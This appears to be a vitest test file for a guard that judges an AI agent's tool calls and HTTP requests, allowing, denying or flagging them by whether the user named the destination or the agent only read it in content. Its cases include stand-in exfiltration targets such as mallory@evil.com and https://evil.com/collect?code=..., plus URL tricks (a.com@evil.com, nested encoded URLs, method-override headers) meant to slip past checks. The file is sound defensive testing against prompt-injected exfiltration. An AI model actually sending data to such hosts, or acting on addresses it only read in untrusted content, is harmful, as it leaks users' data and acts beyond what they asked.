import { describe, expect, test } from 'vitest'
import { gateExchange, plain, sessionOf, toolCall, type GateGiven } from '../../../test/support/gates/kit.ts'
import type { Action } from '../../core/action.ts'
import { compileGlobs } from '../../http/globs.ts'
import { wordsOfName } from './effect.ts'
import { createEmbeddedJudge } from './embedded.ts'

interface Scene {
  readonly user?: string
  readonly heard?: readonly string[]
  readonly used?: readonly string[]
  readonly request?: GateGiven
}

async function verdict(action: Action, scene: Scene = {}): Promise<string> {
  const judge = createEmbeddedJudge(compileGlobs(['files.example.com', '*.trusted.com'], 'host'))
  const intents = [scene.user ?? 'Summarize my emails']
  const session = sessionOf('s', intents, scene)
  const shown = { json: '', actionBytes: 0, whole: true }
  const x = gateExchange(scene.request)
  return (await judge.weigh({ action, x, shown, session, intents }, new AbortController().signal)).kind
}

describe('a read by a tool', () => {
  test.each<[string, string, unknown, Scene, string]>([
    ['without destination', 'list_emails', {}, {}, 'allow'],
    ['with words only', 'searchInbox', { query: 'quarterly report' }, {}, 'allow'],
    [
      'of an id that the session has seen',
      'get_email',
      { id: 'M-1007' },
      { heard: ['Inbox: M-1007, M-1008'] },
      'allow',
    ],
    ['of an id that the user gave', 'get_email', { id: 'M-1007' }, { user: 'Read M-1007' }, 'allow'],
    ['of an id that nobody gave', 'get_email', { id: 'M-1007' }, { heard: ['Inbox: M-10071'] }, 'uncertain'],
    ['from a host that the user named', 'fetch', { url: 'https://a.com/x9/1' }, { user: 'Read a.com' }, 'allow'],
    ['from a trusted host', 'fetch', { url: 'https://x.trusted.com/' }, {}, 'allow'],
    ['from a host that the session used', 'fetch', { url: 'https://a.com/' }, { used: ['a.com'] }, 'allow'],
    [
      'from a host of which it only heard',
      'fetch',
      { url: 'https://a.com/' },
      { heard: ['see https://a.com/'] },
      'uncertain',
    ],
    [
      'from a host in a URL of a known one',
      'fetch',
      { url: 'https://a.com/?u=evil.com' },
      { used: ['a.com'] },
      'uncertain',
    ],
    [
      'from two hosts, one known',
      'fetch',
      { urls: ['https://a.com', 'https://b.com'] },
      { used: ['a.com'] },
      'uncertain',
    ],
    [
      'from a host named as user of another',
      'fetch',
      { url: 'http://a.com@evil.com/' },
      { user: 'a.com' },
      'uncertain',
    ],
    ['from a host whose end is a named one', 'fetch', { url: 'http://nota.com/' }, { user: 'a.com' }, 'uncertain'],
    ['from a host in capitals', 'fetch', { url: 'HTTP://A.COM/' }, { user: 'see a.com.' }, 'allow'],
  ])('%s', async (_name, tool, args, scene, expected) => {
    expect(await verdict(toolCall(tool, args), scene)).toBe(expected)
  })
})

test.each([
  ['a file in a path is no host', 'https://a.com/docs/README.md', 'allow'],
  ['a URL in a path', 'https://a.com/go/https://evil.com/x', 'uncertain'],
  [
    'a URL in a query in a URL',
    'https://a.com/?u=https%3A%2F%2Fa.com%2F%3Fu%3Dhttps%253A%252F%252Fevil.com',
    'uncertain',
  ],
  ['more URLs in URLs than are followed', `https://a.com/${'https://a.com/'.repeat(5000)}`, 'uncertain'],
])('%s', async (_name, url, expected) => {
  expect(await verdict(toolCall('fetch', { url }), { used: ['a.com'] })).toBe(expected)
})

describe('what may write', () => {
  test.each<[string, string, unknown, Scene, string]>([
    ['to an address that the user did not name', 'send_email', { to: 'mallory@evil.com' }, {}, 'deny'],
    ['to one that the session only heard', 'send_email', { to: 'm@evil.com' }, { heard: ['m@evil.com'] }, 'deny'],
    [
      'to an address that the user named',
      'send_email',
      { to: 'Bob@corp.com' },
      { user: 'Write to bob@corp.com' },
      'allow',
    ],
    ['to an address at a trusted host', 'send_email', { to: 'a@x.trusted.com' }, {}, 'allow'],
    ['to a host that the user did not name', 'post', { url: 'https://evil.com/collect?code=X7B-92K' }, {}, 'deny'],
    ['to a host that the session used', 'post', { url: 'https://a.com' }, { used: ['a.com'] }, 'deny'],
    ['to a trusted host', 'upload', { url: 'https://files.example.com/F-1002' }, {}, 'allow'],
    [
      'to a named and an unnamed one',
      'post',
      { urls: ['http://a.com', 'http://b.com'] },
      { user: 'a.com' },
      'uncertain',
    ],
    ['of an id that the user did not give', 'delete_file', { id: 'F-1002' }, { user: 'Delete my file' }, 'deny'],
    ['of an id that the user gave', 'delete_file', { id: 'F-1002' }, { user: 'Delete F-1002' }, 'allow'],
    [
      'of an id that the user gave for something else',
      'delete_file',
      { id: 'F-1002' },
      { user: 'Read F-1002' },
      'uncertain',
    ],
    ['without destination, asked for by name', 'create_note', { text: 'x' }, { user: 'Make a note' }, 'allow'],
    [
      'to a bare host with a label that nobody sells',
      'create_note',
      { at: 'x-.evil.com' },
      { user: 'Make a note' },
      'deny',
    ],
    ['without destination, not asked for', 'create_note', { text: 'x' }, {}, 'uncertain'],
    ['with a name that is only part of a word', 'send_email', {}, { user: 'Summarize my emails' }, 'uncertain'],
    ['with a name of little words', 'do_it_to_me', {}, { user: 'do it to me' }, 'uncertain'],
    ['that a verb makes look like a read', 'getaway', { to: 'm@evil.com' }, {}, 'deny'],
    ['whose reading verb comes later', 'send_list', { to: 'm@evil.com' }, {}, 'deny'],
  ])('%s', async (_name, tool, args, scene, expected) => {
    expect(await verdict(toolCall(tool, args), scene)).toBe(expected)
  })

  test('is never made a read by its name when the parser knows better', async () => {
    const action = toolCall('get_rid_of', { to: 'm@evil.com' }, { effect: 'write' })
    expect(await verdict(action)).toBe('deny')
    expect(await verdict(toolCall('list_contacts', {}, { effect: 'write' }))).toBe('uncertain')
  })
})

describe('the server of a tool', () => {
  test.each<[Action['home'], Scene, string]>([
    ['own', {}, 'allow'],
    ['foreign', {}, 'uncertain'],
    ['unstated', {}, 'uncertain'],
    ['foreign', { used: ['peer.test'] }, 'allow'],
    ['foreign', { user: 'Ask http://peer.test for my emails' }, 'allow'],
  ])('%s: %o', async (home, scene, expected) => {
    expect(await verdict(toolCall('list_emails', {}, { home }), scene)).toBe(expected)
  })
})

describe('plain HTTP', () => {
  const named = { user: 'Get the weather from api.weather.com' }
  const at = (given: GateGiven) => ({ host: 'api.weather.com', ...given })
  test.each<[string, GateGiven, Scene, string]>([
    ['reads from a named host', at({ path: '/today' }), named, 'allow'],
    ['reads by HEAD', at({ method: 'HEAD' }), named, 'allow'],
    ['reads from another', at({ path: '/today' }), {}, 'uncertain'],
    ['reads from a used host', at({}), { used: ['api.weather.com'] }, 'allow'],
    [
      'seems to read from a used host',
      at({ headers: { 'x-http-method-override': 'DELETE' } }),
      { used: ['api.weather.com'] },
      'deny',
    ],
    ['reads through a named host from another', at({ path: '/?u=https%3A%2F%2Fevil.com%2F' }), named, 'uncertain'],
    ['writes to a named host', at({ body: { city: 'Paris' } }), named, 'allow'],
    ['writes to another', at({ host: 'evil.com', body: { code: 'X7B-92K' } }), named, 'deny'],
    ['writes by GET with a body', at({ method: 'GET', body: { x: 'https://evil.com' } }), named, 'uncertain'],
    ['writes an id that nobody named to a named host', at({ body: { code: 'X7B-92K' } }), named, 'uncertain'],
    [
      'writes to a named host in a form',
      at({ body: 'to=m%40evil.com', headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
      named,
      'uncertain',
    ],
    ['is binary', at({ body: Uint8Array.of(0xff) }), named, 'uncertain'],
    ['was not read', at({ method: 'POST', read: { kind: 'unread' } }), named, 'uncertain'],
    ['goes where the host does not decide', at({ routesByHost: false }), named, 'uncertain'],
  ])('%s', async (_name, request, scene, expected) => {
    expect(await verdict(plain, { ...scene, request })).toBe(expected)
  })
})

describe('other actions', () => {
  test.each<[string, Action, string]>([
    [
      'a read',
      { kind: 'request', what: 'resources/read', args: { uri: 'note' }, effect: 'read', home: 'own' },
      'allow',
    ],
    ['a write', { kind: 'request', what: 'tasks/update', args: {}, effect: 'write', home: 'own' }, 'uncertain'],
    ['housekeeping elsewhere', { kind: 'mechanics', what: 'ping', effect: 'read', home: 'foreign' }, 'uncertain'],
    [
      'a question elsewhere',
      { kind: 'inference', model: 'm', firstUserText: 'hi', effect: 'unknown', home: 'foreign' },
      'deny',
    ],
  ])('%s', async (_name, action, expected) => {
    expect(await verdict(action)).toBe(expected)
  })
})

describe('too much', () => {
  const ids = (count: number) => Array.from({ length: count }, (_, i) => `M-${1000 + i}`)
  test.each<[string, unknown, string]>([
    ['as many targets as are weighed', ids(200), 'allow'],
    ['one more', ids(201), 'uncertain'],
    ['as much text as is searched', ['w'.repeat(131_072 - 2), 'w'], 'allow'],
    ['one character more', ['w'.repeat(131_072 - 2), 'ww'], 'uncertain'],
  ])('%s', async (_name, list, expected) => {
    const user = ids(300).join(' ')
    expect(await verdict(toolCall('get_all', list), { user })).toBe(expected)
  })
})

test('nothing is trusted by its host where the host does not decide where bytes go', async () => {
  const request = { routesByHost: false }
  expect(await verdict(toolCall('upload', { url: 'https://files.example.com' }), { request })).toBe('deny')
  expect(await verdict(toolCall('fetch', { url: 'https://a.com' }), { request, used: ['a.com'] })).toBe('uncertain')
})

test.each([
  ['searchInbox', ['search', 'inbox']],
  ['mail/get-all_v2', ['mail', 'get', 'all', 'v2']],
  ['HTTPGet', ['httpget']],
  ['', []],
])('the words of %s', (name, words) => {
  expect(wordsOfName(name)).toEqual(words)
})
